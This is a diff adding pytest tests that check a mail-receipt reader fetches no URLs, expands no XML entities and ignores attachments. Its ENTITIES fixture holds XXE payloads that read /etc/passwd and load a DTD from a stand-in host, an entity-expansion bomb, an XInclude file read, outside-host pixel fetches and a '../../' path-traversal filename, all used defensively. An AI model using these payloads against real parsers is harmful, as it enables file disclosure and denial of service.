@@ -597,6 +597,58 @@ def test_hostile_mail_takes_seconds_at_most(case):
         assert time.process_time() - begin < 10  # quadratic would take minutes
 
 
+ENTITIES = """\
+<?xml version="1.0"?>
+<!DOCTYPE html [
+  <!ENTITY passwd SYSTEM "file:///etc/passwd">
+  <!ENTITY away SYSTEM "http://192.0.2.1/evil.dtd">
+  <!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+]>
+<html xmlns:xi="http://www.w3.org/2001/XInclude"><body>
+<xi:include href="file:///etc/passwd" parse="text"/>
+<img src="http://192.0.2.1/pixel.gif"><iframe src="file:///etc/passwd"></iframe>
+<link rel="stylesheet" href="http://192.0.2.1/a.css">
+&passwd;&away;&lol2;
+"""
+
+
+def test_markup_fetches_nothing_and_expands_no_entity(monkeypatch):
+    def refuse(*_, **__):
+        raise AssertionError("something was opened")
+
+    raw = mail(ENTITIES + as_html(str(SMALL)), more="Content-Type: text/html\r\n")
+    monkeypatch.setattr("socket.socket", refuse)
+    monkeypatch.setattr("builtins.open", refuse)
+    monkeypatch.setattr("io.open", refuse)
+    text = text_of_html(ENTITIES)
+    read = read_receipt_mail(raw)
+    monkeypatch.undo()
+    assert read.receipt == SMALL
+    assert "root:" not in text
+    assert "lollol" not in text
+    assert len(text) < len(ENTITIES)
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        b"Content-Type: text/plain\r\nContent-Disposition: attachment; filename=receipt.txt",
+        b"Content-Type: text/html\r\nContent-Disposition: ATTACHMENT; filename=../../receipt.html",
+        b"Content-Type: application/zip; name=receipt.zip",
+        b"Content-Type: application/octet-stream",
+        b"Content-Type: image/svg+xml",
+        b"Content-Type: message/rfc822\r\n\r\n" + HEAD.strip(),
+    ],
+)
+def test_attachments_are_not_looked_into(head):
+    other = replace(SMALL, records_received=999_999)
+    attached = head + b"\r\n\r\n" + str(other).encode()
+    with pytest.raises(UnreadableReceipt):
+        read_receipt_mail(HEAD + multipart([attached], "mixed"))
+    good = b"Content-Type: text/plain\r\n\r\n" + str(SMALL).encode()
+    assert read_receipt_mail(HEAD + multipart([good, attached], "mixed")).receipt == SMALL
+
+
 @given(st.text(alphabet="<>!-/abps &#x;0139\n\"'", max_size=60))
 def test_markup_of_any_sort_comes_off(markup):
     assert len(text_of_html(markup)) <= len(markup)
